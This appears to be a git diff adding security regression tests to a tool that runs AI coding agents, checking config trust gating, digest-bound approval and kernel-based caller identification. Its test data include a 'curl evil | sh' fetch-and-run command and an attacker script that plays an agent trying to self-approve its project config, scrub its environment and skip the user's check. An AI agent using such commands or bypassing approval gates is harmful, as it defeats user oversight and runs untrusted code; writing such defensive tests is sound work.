@@ -6,11 +6,22 @@ attacks through the real CLI and the real sidecar; each test names its finding:
 1. Python processes para starts with a repository or worktree as cwd (the sidecar the CLI
    autostarts, the agent runner, the scripted agent) never import from that directory:
    a committed `para_rpc/` or a stdlib-shadowing `json.py` must not run (`python -P`).
+2. Every configuration key is declared either gated (its value makes para run something:
+   `config.GATED_KEYS`) or inert, with a reason; an inert key cannot even hold a command.
+   `agent.default` and `worktrees_dir` from the project file are gated like the commands.
+3. Approval is of what the user saw: `para trust` shows the commands, settings and a digest;
+   `para trust --approve <sha256>` approves only that content; a file changed in between is
+   refused; a plan's later step stops once its project profile is no longer approved.
+4. An agent of a session cannot approve, nor change what runs: the sidecar identifies the
+   caller from the kernel (SO_PEERCRED → process ancestry), whatever environment the agent
+   gives its `para` (`forbidden`, exit 14).
 5. A plan runs the task texts it was made with: a task file swapped after `para dispatch -f
    tasks/` showed the plan does not change what a later step's agent gets.
 6. Config and task files are read safely: a project `.para/config.json` or task file that is a
    FIFO (it blocked the sidecar for every client), a device, a symlink out of the repository,
    or larger than 1 MiB is refused with a clear error; nothing is created, the sidecar serves on.
+7. Stopping an agent stops what it started, never a shared daemon it happened to start (a tmux
+   server, where the user's own windows live too) nor what runs under it.
 8. The task never becomes options of an agent CLI, nor shows in `ps`: the built-in headless
    profiles (claude, codex, gemini, opencode) get it on stdin, the interactive ones after `--`
    or as `--option=<task>`; a custom profile that would pass a task starting with `-` where
@@ -21,14 +32,25 @@ from __future__ import annotations
 
 import json
 import os
+import subprocess
 from pathlib import Path
 
 import pytest
 
 from agents_util import (Api, agent_env, agent_scripts, dispatch, tmux_bin,  # noqa: F401  (autouse: agents cleaned up)
                          wait_file)
-from conftest import (PYTHON, Sidecar, commit_file, git, git_state, run_para, shutdown_sidecar, sidecar_pids,
-                      start_sidecar, wait_until)
+from conftest import (PYTHON, Sidecar, commit_file, git, git_state, make_repo, pid_alive, rev, run_para,
+                      shutdown_sidecar, sidecar_pids, start_sidecar, wait_until)
+from para_rpc import config
+from para_rpc.errors import Code
+
+
+@pytest.fixture(autouse=True)
+def trust_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """This test's own trust file: XDG_DATA_HOME is set before any sidecar starts (it inherits
+    the test's environment), so approvals never leak between tests."""
+    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
+    return tmp_path / "data" / "para" / "trust.json"
 
 
 # ---- 1. python -P: a repository's files never shadow para's modules or the stdlib -----------
@@ -235,7 +257,6 @@ def test_project_config_fifo_device_symlink_out_or_huge_is_a_config_error(repo: 
     """Finding 6, the project file: every request reads it; a FIFO there (an agent can
     `mkfifo` in the main checkout) hung the sidecar for all repositories, a symlink to
     /dev/zero made it read forever, a symlink out of the repository was followed."""
-    from conftest import make_repo
     other = make_repo(tmp_path / "other")
     path = repo / ".para" / "config.json"
     path.parent.mkdir(exist_ok=True)
@@ -257,7 +278,6 @@ def test_project_config_fifo_device_symlink_out_or_huge_is_a_config_error(repo: 
 def test_task_file_fifo_device_symlink_out_or_huge_is_refused(repo: Path, tmp_path: Path):
     """Finding 6, task files: `para dispatch -f` of a FIFO blocked the sidecar for good;
     of a giant file read it all into memory. Refused, nothing created."""
-    from conftest import make_repo
     other = make_repo(tmp_path / "other")
     before = git_state(repo)
     for words, make in hostile_files(tmp_path).items():
@@ -271,3 +291,243 @@ def test_task_file_fifo_device_symlink_out_or_huge_is_refused(repo: Path, tmp_pa
         assert git_state(repo)["refs"] == before["refs"] and not (repo / ".para" / "worktrees" / "t").exists()
         sidecar_serves(other)
         path.unlink()
+
+
+# ---- 2. every key is declared gated or inert -------------------------------------------------
+
+COMMAND_LIKE = ["sh -c 'touch /tmp/pwned'", "/usr/bin/env", "python3 -c print(1)", ["sh", "-c", "x"]]
+
+
+def test_every_config_key_is_declared_gated_or_inert():
+    """Finding 2: one declaration of what the trust gate covers. A new key fails here until it
+    is put in GATED_KEYS (it runs something) or INERT_KEYS (with why it cannot): and an inert
+    key's converter must refuse every command-like value, so a free-form key cannot be
+    declared inert by mistake."""
+    gated, inert = set(config.GATED_KEYS), set(config.INERT_KEYS)
+    assert not gated & inert
+    assert sorted(config.KEYS) == sorted(gated | inert), "declare each config key in GATED_KEYS or INERT_KEYS"
+    assert config.COMMAND_KEYS <= gated and all(config.INERT_KEYS.values()) and all(config.GATED_KEYS.values())
+    for key in inert:
+        for value in COMMAND_LIKE:
+            with pytest.raises(Exception):
+                converted = config.convert(key, value, "test")
+                assert converted != value, f"{key} holds {value!r}"  # (a number or a choice never equals it)
+
+
+def trust_json(repo: Path, *args: str, env: dict | None = None) -> tuple[int, dict]:
+    proc = run_para("trust", *args, "--json", cwd=repo, check=False, env=env)
+    return proc.returncode, json.loads(proc.stdout)
+
+
+@pytest.mark.usefixtures("sidecar")
+def test_project_agent_default_and_worktrees_dir_wait_for_approval(repo: Path, tmp_path: Path):
+    """Finding 2: `agent.default` (which program a plain dispatch runs) and `worktrees_dir`
+    (where checkouts of the repository's files are written: a site-packages or autostart
+    directory, say) from the project file are gated: untrusted until approved, nothing made;
+    an explicit --agent needs no approval; once approved both apply."""
+    elsewhere = tmp_path / "elsewhere"
+    commit_file(repo, ".para/config.json", json.dumps({"agent": {"default": "scripted"},
+                                                       "worktrees_dir": str(elsewhere)}), "project config")
+    before = git_state(repo)
+    for args in (["start", "w1"], ["dispatch", "d1", "-p", "Do not run any para commands.", "--mode", "headless"]):
+        proc = run_para(*args, "--json", cwd=repo, check=False)
+        err = json.loads(proc.stdout)["error"]
+        assert proc.returncode == 13 and err["code"] == "untrusted", (args, err)
+        assert {s["key"] for s in err["data"]["settings"]} == {"agent.default", "worktrees_dir"}
+    assert git_state(repo) == before and not elsewhere.exists()
+
+    rc, shown = trust_json(repo)
+    assert rc == 0 and shown["action"] == "shown" and shown["commands"] == []
+    assert [(s["key"], s["value"]) for s in shown["settings"]] == [("agent.default", "scripted"),
+                                                                  ("worktrees_dir", str(elsewhere))]
+    rc, out = trust_json(repo, "--approve", shown["sha256"])
+    assert rc == 0 and out["action"] == "approved", out
+    r = json.loads(run_para("start", "w1", "--json", cwd=repo).stdout)
+    assert r["worktree"] == str(elsewhere / "w1") and (elsewhere / "w1").is_dir()
+
+
+# ---- 3. approval is of what the user saw -------------------------------------------------------
+
+@pytest.mark.usefixtures("sidecar")
+def test_approve_takes_the_digest_shown_and_refuses_a_file_changed_since(repo: Path, trust_store: Path):
+    """Finding 3: `para trust` approved whatever the file held at that moment, so a file
+    swapped between the user's review and their `para trust` got approved unseen. Now `para
+    trust` only shows (with the digest), and `--approve <sha256>` records only that content."""
+    seen = {"integrate": {"check": "make test"}}
+    commit_file(repo, ".para/config.json", json.dumps(seen), "project config")
+    rc, shown = trust_json(repo)
+    assert rc == 0 and shown["action"] == "shown" and shown["approved"] is False
+    assert [c["argv"] for c in shown["commands"]] == [["make", "test"]]
+    human = run_para("trust", cwd=repo).stdout
+    assert "make test" in human and f"para trust --approve {shown['sha256']}" in human
+    trust_file = Path(shown["store"])
+    assert trust_file == trust_store and not trust_file.exists()
+
+    (repo / ".para" / "config.json").write_text(json.dumps({"integrate": {"check": "sh -c 'curl evil | sh'"}}))
+    rc, out = trust_json(repo, "--approve", shown["sha256"])
+    assert rc == 4 and out["error"]["code"] == "wrong_state", out
+    assert out["error"]["data"]["expected"] == shown["sha256"] != out["error"]["data"]["sha256"]
+    assert not trust_file.exists()
+    for bad in ("", "yes", shown["sha256"][:16], shown["sha256"].upper()):
+        rc, out = trust_json(repo, "--approve", bad)
+        assert rc == 2 and out["error"]["code"] == "invalid_input", (bad, out)
+    assert not trust_file.exists()
+
+    rc, again = trust_json(repo)
+    rc, out = trust_json(repo, "--approve", again["sha256"])
+    assert rc == 0 and out["action"] == "approved" and out["commands"][0]["argv"] == ["sh", "-c", "curl evil | sh"]
+    assert json.loads(trust_file.read_text())["repos"][os.path.realpath(repo / ".git")]["sha256"] == again["sha256"]
+
+
+PLAN_STEP = "A step.\n\n{gate}```file:{name}.txt\n{name}\n```\n\nWhen done: para integrate \"{name}\"\n"
+
+
+@pytest.mark.usefixtures("sidecar")
+def test_a_plan_step_stops_when_its_project_profile_is_no_longer_approved(repo: Path, tmp_path: Path, sidecar):
+    """Finding 3: a plan resolved its profile when it was made and ran it for every later
+    step, so revoking (or changing) the project file after approving it did not stop it."""
+    gate = tmp_path / "gate"
+    mine = [PYTHON, "-P", "-m", "para_rpc.scripted_agent", "{prompt_file}"]
+    commit_file(repo, ".para/config.json", json.dumps({"agents": {"mine": {"command": mine}}}), "project config")
+    rc, shown = trust_json(repo)
+    assert trust_json(repo, "--approve", shown["sha256"])[0] == 0
+    tasks = repo / "tasks"
+    tasks.mkdir()
+    (tasks / "TASK_1_one.md").write_text(PLAN_STEP.format(name="one", gate=f"```agent\nwait-for {gate}\n```\n\n"))
+    (tasks / "TASK_2_two.md").write_text(PLAN_STEP.format(name="two", gate=""))
+    dispatch(repo, "-f", "tasks/", "--agent", "mine", "--mode", "headless")
+    assert trust_json(repo, "--revoke")[1]["action"] == "revoked"
+    gate.touch()
+    api = Api(sidecar.socket, repo)
+    plan = api.wait_plan("failed")
+    assert "agent profile 'mine'" in plan["reason"] and "not approved" in plan["reason"], plan["reason"]
+    assert "two" not in api.sessions() and git("show", "main:one.txt", cwd=repo) == "one"
+
+
+# ---- 4. an agent cannot approve, nor change what runs -----------------------------------------
+
+ATTACKER = """\
+import json, os, subprocess, sys
+out, repo, sha, para = sys.argv[1:5]
+results = {}
+
+
+def run(name, argv, cwd=repo, **env):
+    full = {k: v for k, v in os.environ.items() if k not in ("PARA_SESSION", "PARA_WORKTREE")}
+    full.update(env)
+    p = subprocess.run(argv, cwd=cwd, env=full, capture_output=True, text=True, stdin=subprocess.DEVNULL)
+    results[name] = [p.returncode, p.stdout, p.stderr]
+
+
+scrubbed = ["env", "-i"] + [f"{k}={os.environ[k]}" for k in ("PATH", "HOME", "PARA_RUNTIME_DIR", "PARA_CONFIG")]
+run("approve", [para, "trust", "--approve", sha, "--json"])
+run("approve, environment scrubbed", scrubbed + [para, "trust", "--approve", sha, "--json"])
+run("approve, from a shell", ["sh", "-c", 'exec "$0" trust --approve "$1" --json', para, sha])
+run("user config: a profile", [para, "config", "set", "agents", json.dumps({"x": {"command": ["sh"]}}), "--json"])
+run("project config: a check", [para, "config", "set", "--project", "integrate.check", "touch /tmp/x", "--json"])
+run("skip the user's check", [para, "integrate", "sneaky", "--json"], cwd=os.getcwd(), PARA_INTEGRATE_CHECK="")
+run("its own profile", [para, "dispatch", "spawn", "-p", "x", "--agent", "x", "--mode", "headless", "--json"],
+    PARA_AGENTS=json.dumps({"x": {"command": ["sh", "-c", "touch /tmp/x"]}}))
+run("an inert key", [para, "config", "set", "agent.stale_after", "700", "--json"])
+run("look", [para, "trust", "--json"])
+with open(out + ".tmp", "w") as f:
+    json.dump(results, f)
+os.replace(out + ".tmp", out)
+"""
+
+
+FORBIDDEN = ("approve", "approve, environment scrubbed", "approve, from a shell", "user config: a profile",
+             "project config: a check", "skip the user's check", "its own profile")
+
+
+@pytest.mark.usefixtures("sidecar")
+def test_an_agent_cannot_approve_or_change_what_runs_whatever_its_environment(repo: Path, tmp_path: Path,
+                                                                               sidecar):
+    """Finding 4: the CLI refused approval only when PARA_SESSION was set, so an agent that
+    unset it (or scrubbed its whole environment) approved its own project file; through the
+    sidecar it could also write a profile into the user's config (trusted), skip the user's
+    check with PARA_INTEGRATE_CHECK='', or dispatch its own PARA_AGENTS. The sidecar now
+    asks the kernel who calls (SO_PEERCRED) and refuses all of it with `forbidden`; looking
+    and inert settings stay allowed; the user, with the same digest, approves."""
+    check_marker = tmp_path / "user-check-ran"
+    user_cfg = Path(os.environ["PARA_CONFIG"])
+    user_cfg.write_text(json.dumps({"integrate": {"check": f"touch {check_marker}"}}))
+    project = {"agents": {"helper": {"command": ["sh", "-c", "touch /tmp/pwned"]}}}
+    commit_file(repo, ".para/config.json", json.dumps(project), "project config")
+    sha = trust_json(repo)[1]["sha256"]
+    script, results = tmp_path / "attacker.py", tmp_path / "results.json"
+    script.write_text(ATTACKER)
+    para = str(Path(PYTHON).with_name("para"))
+    profiles = {"attacker": {"command": [PYTHON, str(script), str(results), str(repo), sha, para]}}
+    r, _ = dispatch(repo, "att", "-p", "attack", "--agent", "attacker", "--mode", "headless", profiles=profiles)
+    commit_file(Path(r["worktree"]), "work.txt", "work\n", "work")
+    main_before = rev(repo, "main")
+    got = json.loads(wait_file(results).read_text())
+
+    for name in FORBIDDEN:
+        rc, stdout, stderr = got[name]
+        assert rc == Code.forbidden.exit == 14, (name, rc, stdout, stderr)
+        err = json.loads(stdout)["error"]
+        assert err["code"] == "forbidden" and "session 'att'" in err["message"], (name, err)
+    assert got["an inert key"][0] == 0 and got["look"][0] == 0, got
+    trust_file = Path(json.loads(got["look"][1])["store"])
+    assert not trust_file.exists()
+    assert json.loads(user_cfg.read_text()) == {"integrate": {"check": f"touch {check_marker}"},
+                                                "agent": {"stale_after": 700}}
+    assert json.loads((repo / ".para" / "config.json").read_text()) == project
+    assert rev(repo, "main") == main_before and not check_marker.exists()
+    assert "spawn" not in Api(sidecar.socket, repo).sessions()
+
+    wt = Path(r["worktree"])  # the user, but from inside the session's worktree: refused too
+    rc, out = trust_json(wt, "--approve", sha)
+    assert rc == 14 and out["error"]["data"]["session"] == "att", out
+    rc, out = trust_json(repo, "--approve", sha)  # the user, in the main checkout
+    assert rc == 0 and out["action"] == "approved", out
+
+
+# ---- 7. stopping an agent spares shared daemons -----------------------------------------------
+
+@pytest.fixture
+def tmux_sidecar(agent_env: Path, runtime_dir: Path, tmux_bin: str):
+    """A sidecar started after agent_env: it and its agents use this test's tmux server."""
+    sc = start_sidecar(runtime_dir, "--idle-timeout", "0")
+    yield sc
+    shutdown_sidecar(sc, wait=False)
+
+
+def tmux_cmd(*args: str) -> subprocess.CompletedProcess:
+    return subprocess.run(["tmux", *args], capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=60)
+
+
+def test_cancelling_an_agent_spares_the_tmux_server_it_started_and_the_users_windows(repo: Path, tmp_path: Path,
+                                                                                    tmux_sidecar):
+    """Finding 7: an agent that starts tmux (`tmux new -d` for a dev server) starts the user's
+    default tmux server, which then carries its run's mark, and so does every window the user
+    opens there later; stopping the agent killed all of it. Now the agent's own daemon is
+    stopped, the tmux server and the user's window live on, and the user's shell there is
+    not taken for the agent (it may approve)."""
+    out = tmp_path / "out"
+    out.mkdir()
+    task = ("Start a dev server in tmux.\n\n```agent\n"
+            "run tmux new-session -d -s dev \"sleep 305\"\n"
+            f'run sh -c "sleep 307 & echo $! > {out}/daemon.pid"\n'
+            f"run touch {out}/ready\n"
+            f"wait-for {out}/never\n```\n\nDo not run any para commands.\n")
+    dispatch(repo, "tm", "-p", task, "--agent", "scripted", "--mode", "headless")
+    wait_file(out / "ready")
+    daemon = int((out / "daemon.pid").read_text())
+    server = int(tmux_cmd("display-message", "-p", "-t", "=dev", "#{pid}").stdout.strip())
+    # The user's own window in that server (their shell would run `para` there).
+    commit_file(repo, ".para/config.json", json.dumps({"integrate": {"check": "true"}}), "project config")
+    sha = trust_json(repo)[1]["sha256"]
+    mine = tmux_cmd("new-session", "-d", "-s", "mine", "-c", str(repo), "-P", "-F", "#{pane_pid}",
+                    f"sleep 600 & env -u PARA_SESSION -u PARA_WORKTREE {Path(PYTHON).with_name('para')} trust "
+                    f"--approve {sha} --json > {out}/approve.json; wait")
+    user_pane = int(mine.stdout.strip())
+
+    run_para("cancel", "tm", cwd=repo)
+    wait_until(lambda: not pid_alive(daemon), 60, "the agent's daemon to be stopped")
+    approved = json.loads(wait_file(out / "approve.json").read_text())
+    assert approved.get("action") == "approved", approved
+    assert pid_alive(server) and pid_alive(user_pane)
+    assert "mine" in tmux_cmd("list-sessions", "-F", "#{session_name}").stdout.split()
